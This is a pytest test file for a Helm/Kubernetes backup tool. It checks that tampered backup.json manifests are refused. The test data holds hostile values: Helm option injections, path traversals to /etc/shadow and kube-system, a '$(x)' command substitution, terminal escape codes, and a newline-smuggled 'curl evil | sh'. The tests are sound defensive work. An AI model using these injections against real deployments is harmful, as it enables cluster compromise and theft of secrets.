"""What ``backup.json`` says is checked where it is read: whoever can write a bucket writes it (issue 14)."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from openab_sop.backups import remote, schema
from openab_sop.backups.backup import MANIFEST, Backup
from openab_sop.errors import BackupError
from tests.unit.openab_sop.mutated import mutations
from tests.unit.openab_sop.stored import made

Change = Callable[[dict[str, Any]], object]


@pytest.fixture
def backup(tmp_path: Path) -> Backup:
    return made(tmp_path)


def rewrite(backup: Backup, change: Change) -> None:
    """Change what the backup's list says."""
    path = backup.directory / MANIFEST
    data = json.loads(path.read_text())
    change(data)
    path.write_text(json.dumps(data))


def at_top(**fields: object) -> Change:
    return lambda data: data.update(fields)


def of_agent(**fields: object) -> Change:
    return lambda data: data["agents"][0].update(fields)


def of_file(**fields: object) -> Change:
    return lambda data: data["contents"][0].update(fields)


HOSTILE: dict[str, Change] = {
    "a release that is an option": at_top(release="--post-renderer=/tmp/x"),
    "a release that is a path": at_top(release="../kube-system"),
    "a release that Helm would not take": at_top(release="a" * 54),
    "a chart that is a path": at_top(chart="../../tmp/evil"),
    "a chart that is an option": at_top(chart="--repo=https://evil"),
    "a chart elsewhere": at_top(chart="oci://evil/chart"),
    "a version that is a path": at_top(version="1.0.0/../../../tmp/evil"),
    "a version that is an option": at_top(version="--insecure-skip-tls-verify"),
    "a version of two lines": at_top(version="1.0.0\n  next: curl evil | sh"),
    "a namespace that is a path": at_top(namespace="a/../kube-system"),
    "a name that adds labels": at_top(name="a,owner=helm"),
    "a name that is a path": at_top(name="../x"),
    "no name": at_top(name=""),
    "a recipient that is a file": at_top(sealed_to=["/etc/shadow"]),
    "a recipient that moves the cursor": at_top(sealed_to=["age1\x1b[2J"]),
    "a context of two lines": at_top(context="a\nb"),
    "a moment that is none": at_top(created="yesterday"),
    "a revision beyond all measure": at_top(revision=10**400),
    "a revision that is a text": at_top(revision="1"),
    "a revision that is true": at_top(revision=True),
    "agents that are none": at_top(agents={}),
    "an agent that is none": at_top(agents=["x"]),
    "contents that are none": at_top(contents=None),
    "an agent that is a path": of_agent(deployment="../x"),
    "an agent that is an option": of_agent(deployment="--all"),
    "an agent that is absolute": of_agent(deployment="/etc"),
    "an agent twice": lambda data: data["agents"].append(data["agents"][0]),
    "a further volume that is a path": of_agent(volume="../../x"),
    "a claim that is a path": of_agent(claim="x/../../y"),
    "a claim's UID that is a command": of_agent(claim_uid="$(x)"),
    "an image that is an option": of_agent(image="--privileged"),
    "a home that leads up": of_agent(home="/home/../etc"),
    "a home that is relative": of_agent(home="home"),
    "a database that leads out": of_agent(databases=["../x"]),
    "a place in the home that leads out": of_agent(inside="../x"),
    "a count that is negative": of_agent(files=-1),
    "a file that leads out": of_file(path="a/../../b"),
    "a file that is absolute": of_file(path="/etc/shadow"),
    "a file that is the list": of_file(path=MANIFEST),
    "a file twice": lambda data: data["contents"].append(data["contents"][0]),
    "a digest that is none": of_file(sha256="x" * 64),
    "a digest of another case": of_file(sha256="A" * 64),
    "a size beyond all measure": of_file(size=1 << 70),
    "a size that is a text": of_file(size="1"),
    "a size that is broken": of_file(size=1.5),
}


@pytest.mark.parametrize("change", HOSTILE.values(), ids=HOSTILE)
def test_a_value_that_we_do_not_write_is_refused(backup: Backup, change: Change) -> None:
    rewrite(backup, change)
    with pytest.raises(BackupError, match=r"backup\.json is damaged, or this tool has not written it: ") as refused:
        Backup.load(backup.directory)
    assert "\x1b" not in str(refused.value)
    assert str(refused.value).count("\n") == 1


@pytest.mark.parametrize(
    "text", [b'{"schema": 1e999}', b"[" * 100_000, b'{"schema": ' + b"9" * 5000 + b"}"], ids=["inf", "deep", "long"]
)
def test_numbers_and_nesting_that_break_parsers(backup: Backup, text: bytes) -> None:
    (backup.directory / MANIFEST).write_bytes(text)
    with pytest.raises(BackupError):
        Backup.load(backup.directory)


def test_a_list_beyond_all_measure(backup: Backup) -> None:
    """It is refused by its size, and not read."""
    with (backup.directory / MANIFEST).open("r+b") as file:
        file.truncate(schema.LARGEST + 1)
    with pytest.raises(BackupError, match="bytes; such a file of a backup has at most"):
        Backup.load(backup.directory)


GOOD: dict[str, Change] = {
    "a release with dots": at_top(release="my.bot-2"),
    "a context as clouds name them": at_top(context="arn:aws:eks:eu-1:1:cluster/prod, of admin@x"),
    "a version with everything": at_top(version="v0.8.1-beta.1+build.5"),
    "a chart with dots": at_top(chart="agent_broker.v2"),
    "a file of any name": of_file(path="bot/skills/ odd\x1b\nname\udcff.md"),
    "an image by digest": of_agent(image="registry.example:5000/a_b/c@sha256:" + "0" * 64),
    "an image at an address": of_agent(image="[::1]:5000/openab:1"),
    "no claim": of_agent(claim=None, claim_uid=None),
    "a part of a claim": of_agent(volume="shared@team=2Fnotes", inside="work/notes"),
    "a key with the end of its line": at_top(sealed_to=["age1qqq\n"]),
    "keys of SSH": at_top(sealed_to=["ssh-ed25519 AAAAC3 somebody@somewhere", "age1qqq"]),
    "a later field": at_top(later={"a": [1]}),
    "an earlier moment": at_top(created="2026-01-01T00:00:00+02:00"),
}


@pytest.mark.parametrize("change", GOOD.values(), ids=GOOD)
def test_what_clusters_and_people_really_have_is_let_pass(backup: Backup, change: Change) -> None:
    rewrite(backup, change)
    Backup.load(backup.directory)


def test_the_newest_that_is_good_is_found_behind_a_bad_one(backup: Backup) -> None:
    bad = made(backup.directory.parent, "openab-backup-20260303-000000")
    rewrite(bad, at_top(release="../openab", revision=10**400))
    found = remote.find(backup.directory.parent, None, remote.NEWEST)
    assert found.manifest.name == backup.name


def test_whatever_is_changed_is_read_or_refused(backup: Backup) -> None:
    """Nothing else comes up, and what is refused is told in one line."""
    path = backup.directory / MANIFEST
    good, refused = json.loads(path.read_text()), 0
    for changed in mutations(good, 600):
        path.write_text(json.dumps(changed))
        try:
            Backup.load(backup.directory)
        except BackupError as error:
            refused += 1
            assert str(error).count("\n") == 1
            assert "\x1b" not in str(error)
            assert len(str(error)) < 2000
    assert refused > 200, "nothing of it did any harm: this test proves nothing"
